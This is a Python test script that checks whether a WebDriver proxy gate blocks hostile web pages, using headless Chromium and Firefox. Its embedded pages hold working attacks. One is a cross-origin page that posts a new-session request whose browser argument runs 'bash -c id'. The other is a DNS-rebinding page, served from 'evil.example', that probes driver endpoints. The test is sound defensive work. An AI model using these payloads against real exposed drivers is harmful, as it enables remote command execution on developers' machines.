#!/usr/bin/python3
"""Requests from web pages to `hidlog webdriver`, in real browsers: none of them may reach the driver.

A page of another origin sends each kind of request that a page can send to the proxy's port. So does a page whose host
name is changed to the address of this port (DNS rebinding). As a control, the same requests must reach a driver without
the gate.

    tests/webdriver/browsers.py        runs chromium and firefox-esr, if installed
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1] / "bindings" / "python" / "src"))
sys.path.insert(0, str(HERE))

from hidlog.webdriver import server as server_module
from hidlog.webdriver.driver import Driver
from hidlog.webdriver.errors import DriverError
from hidlog.webdriver.gate import admit
from hidlog.webdriver.proxy import Proxy
from hidlog.webdriver.server import Server
from sockets import RecordingDriver

ATTACKER_HOST = "evil.example"
TIMEOUT_SECONDS = 600
PREFERENCES = {
    "network.dns.localDomains": ATTACKER_HOST,
    "browser.shell.checkDefaultBrowser": False,
    "datareporting.policy.dataSubmissionEnabled": False,
    "app.update.disabledForTesting": True,
    "browser.aboutwelcome.enabled": False,
    "network.captive-portal-service.enabled": False,
    "network.connectivity-service.enabled": False,
}
# Requests that a page of another origin can send without a CORS preflight.
CROSS_ORIGIN_PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title><body><script>
const body = JSON.stringify({ capabilities: { alwaysMatch: { "goog:chromeOptions": {
    args: ["--renderer-cmd-prefix=bash -c id>PWNED"] } } } });
const quiet = (promise) => Promise.resolve(promise).catch(() => {});
const attack = async (base) => {
    const plain = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body };
    await quiet(fetch(`${base}/session`, plain));
    await quiet(fetch(`${base}/session`, { ...plain, credentials: "include" }));
    await quiet(fetch(`${base}/session`, { ...plain, referrerPolicy: "no-referrer" }));
    await quiet(fetch(`${base}/session`, { ...plain, mode: "cors", headers: { "Content-Type": "application/json" } }));
    await quiet(fetch(`${base}/session`, { method: "POST", mode: "no-cors", body: new Blob([body]) }));
    await quiet(fetch(`${base}/session/known`, { method: "DELETE" }));
    await quiet(fetch(`${base}/session/known/url`, { mode: "no-cors" }));
    navigator.sendBeacon(`${base}/session`, new Blob([body], { type: "text/plain" }));
    await new Promise((done) => {
        const image = new Image();
        image.onload = image.onerror = done;
        image.src = `${base}/shutdown`;
    });
    for (const sandbox of [null, "allow-forms"]) {
        await new Promise((done) => {
            const frame = document.createElement("iframe");
            frame.name = `frame${sandbox}`;
            const form = `<form method=post enctype="text/plain" action="${base}/session"><input name='{"a' value='":1}'>`
                + "</form><script>document.forms[0].submit()<" + "/script>";
            if (sandbox) {
                frame.sandbox = "allow-forms allow-scripts";
            }
            frame.srcdoc = form;
            let loads = 0;
            frame.onload = () => { loads += 1; if (loads > 1) { done(); } };
            setTimeout(done, 3000);
            document.body.append(frame);
        });
    }
    await new Promise((done) => {
        const socket = new WebSocket(`${base.replace("http", "ws")}/session/known`);
        socket.onclose = socket.onerror = done;
    });
};
(async () => {
    for (const base of BASES) {
        await attack(base);
    }
    await fetch("/report", { method: "POST", body: "{}" });
})();
</script>"""
# A page whose own host name is rebound to the address of the port, so that its requests are same-origin.
REBINDING_PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title><script>
(async () => {
    await fetch(`${CONTROL}/turn`, { mode: "no-cors" });
    // A connection that was open before may still be the attacker's.
    for (let status = 204; status === 204;) {
        status = await fetch("/ready").then((response) => response.status, () => 204);
    }
    const saw = [];
    const json = { "Content-Type": "application/json" };
    for (const [method, path, headers, body] of [
        ["GET", "/status"], ["GET", "/sessions"], ["GET", "/session/known/webauthn/authenticator/x/credentials"],
        ["POST", "/session", json, "{}"], ["POST", "/session", { "Content-Type": "text/plain" }, "{}"],
        ["DELETE", "/session/known"],
    ]) {
        try {
            saw.push((await fetch(path, { method, headers, body })).status);
        } catch (error) {
            saw.push(String(error));
        }
    }
    await fetch(`${CONTROL}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(saw) });
})();
</script>"""


class AttackerHandler(BaseHTTPRequestHandler):
    """The server of an attacker: it serves a page, and collects the reports of the page."""

    page: str
    turned: threading.Event
    may_go: threading.Event
    reported: threading.Event
    report: Any = None

    def do_GET(self) -> None:
        if self.path == "/turn":
            self.turned.set()
            self.may_go.wait(TIMEOUT_SECONDS)
        self.respond(self.page.encode() if self.path == "/" else b"", 200 if self.path in ("/", "/turn") else 204)

    def do_POST(self) -> None:
        type(self).report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.respond(b"")
        self.reported.set()

    def respond(self, data: bytes, status: int = 200) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_: Any) -> None:
        """Does not log requests."""


def make_attacker_handler(page: str) -> Any:
    events = {name: threading.Event() for name in ("turned", "may_go", "reported")}
    members: dict[str, Any] = {"page": page, "report": None, **events}
    return type("EvilPage", (AttackerHandler,), members)


@contextmanager
def serve_in_thread(handler: Any, port: int = 0) -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", port), handler)
    server.daemon_threads = True
    server.handle_error = lambda *_: None  # type: ignore[assignment]
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


class VictimServer:
    """A server at a port, with or without the gate. It records the requests that reach the driver."""

    def __init__(self, has_gate: bool):
        self.handler: Any = type("Noted", (RecordingDriver,), {"asked": [], "connections": []})
        self.has_gate = has_gate
        self.refused: list[str] = []

    @property
    def requests(self) -> list[tuple[str, str]]:
        return [(method, path) for method, path, _ in self.handler.asked]

    @contextmanager
    def listen(self, port: int = 0) -> Iterator[int]:
        """Starts the server, and provides its port."""
        with serve_in_thread(self.handler, 0 if self.has_gate else port) as driver:
            if not self.has_gate:
                yield driver
                return
            with self.open_with_gate(driver, port) as own:
                yield own

    @contextmanager
    def open_with_gate(self, driver: int, port: int) -> Iterator[int]:
        def admit_and_record(*given: Any) -> int:
            try:
                return int(admit(*given))
            except DriverError as error:
                self.refused.append(str(error))
                raise

        proxy = Proxy(Driver(f"http://127.0.0.1:{driver}"))
        server = Server(proxy.serve, port)
        before, server_module.admit = server_module.admit, admit_and_record
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        try:
            yield server.port
        finally:
            server_module.admit = before
            server.shutdown()
            server.server_close()
            proxy.close()


@contextmanager
def open_browser(name: str, url: str) -> Iterator[None]:
    """Opens an address in a browser, which is closed at the end."""
    with TemporaryDirectory(ignore_cleanup_errors=True) as work_dir:
        if name == "chromium":
            words = ["chromium", "--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--no-first-run"]
            words += [f"--user-data-dir={work_dir}", f"--host-resolver-rules=MAP {ATTACKER_HOST} 127.0.0.1", url]
        else:
            lines = [f"user_pref({json.dumps(key)}, {json.dumps(value)});" for key, value in PREFERENCES.items()]
            Path(work_dir, "user.js").write_text("\n".join(lines))
            words = ["firefox-esr", "--headless", "--no-remote", "--profile", work_dir, url]
        started = subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            yield
        finally:
            started.terminate()
            started.wait()


def test_cross_origin(name: str, has_gate: bool) -> VictimServer:
    """Opens a page of another origin in a browser, and returns the server with the requests that reached it."""
    victim = VictimServer(has_gate)
    with victim.listen() as port:
        handler = make_attacker_handler(
            CROSS_ORIGIN_PAGE.replace(
                "BASES", json.dumps([f"http://{host}:{port}" for host in ("127.0.0.1", ATTACKER_HOST)])
            )
        )
        with serve_in_thread(handler) as own, open_browser(name, f"http://{ATTACKER_HOST}:{own}/"):
            assert handler.reported.wait(TIMEOUT_SECONDS), "the page reported no results in time"
    return victim


def test_dns_rebinding(name: str, has_gate: bool) -> tuple[VictimServer, Any]:
    """Opens a page whose origin is then rebound to the port. Returns the server with the requests that reached it, and
    the results of the page."""
    victim, control = VictimServer(has_gate), make_attacker_handler("")
    with serve_in_thread(control) as at, ExitStack() as until_turn:
        page = make_attacker_handler(REBINDING_PAGE.replace("${CONTROL}", f"http://127.0.0.1:{at}"))
        port = until_turn.enter_context(serve_in_thread(page))
        with open_browser(name, f"http://{ATTACKER_HOST}:{port}/"):
            assert control.turned.wait(TIMEOUT_SECONDS), "the page did not start in time"
            until_turn.close()
            with victim.listen(port):
                control.may_go.set()
                assert control.reported.wait(TIMEOUT_SECONDS), "the page reported no results in time"
    return victim, control.report


def check_browser(name: str) -> None:
    """Runs the pages in a browser, first without the gate and then with it."""
    bare = test_cross_origin(name, has_gate=False)
    assert bare.requests.count(("POST", "/session")) >= 8, bare.requests
    assert ("GET", "/shutdown") in bare.requests, bare.requests
    gated = test_cross_origin(name, has_gate=True)
    assert gated.requests == [] and len(gated.refused) >= 10, (gated.requests, gated.refused)
    print(
        f"ok  {name}: a page of another origin: {len(bare.requests)} requests reach a driver, and none through the gate"
    )
    bare, saw = test_dns_rebinding(name, has_gate=False)
    assert ("POST", "/session") in bare.requests and saw[0] == 200, (bare.requests, saw)
    gated, saw = test_dns_rebinding(name, has_gate=True)
    assert gated.requests == [] and set(saw) == {403}, (gated.requests, saw)
    print(
        f"ok  {name}: a host name that is rebound to the port: {len(bare.requests)} requests reach a driver, and none the gate's"
    )


def main() -> int:
    status = 0
    names = [name for name in ("chromium", "firefox-esr") if shutil.which(name)]
    for name in names:
        try:
            check_browser(name)
        except (AssertionError, OSError) as error:
            print(f"FAILED  {name}: {error!r}"[:3000])
            status = 1
    for name in {"chromium", "firefox-esr"} - set(names):
        print(f"    {name} is missing, and its pages weren't run")
    return status


if __name__ == "__main__":
    sys.exit(main())
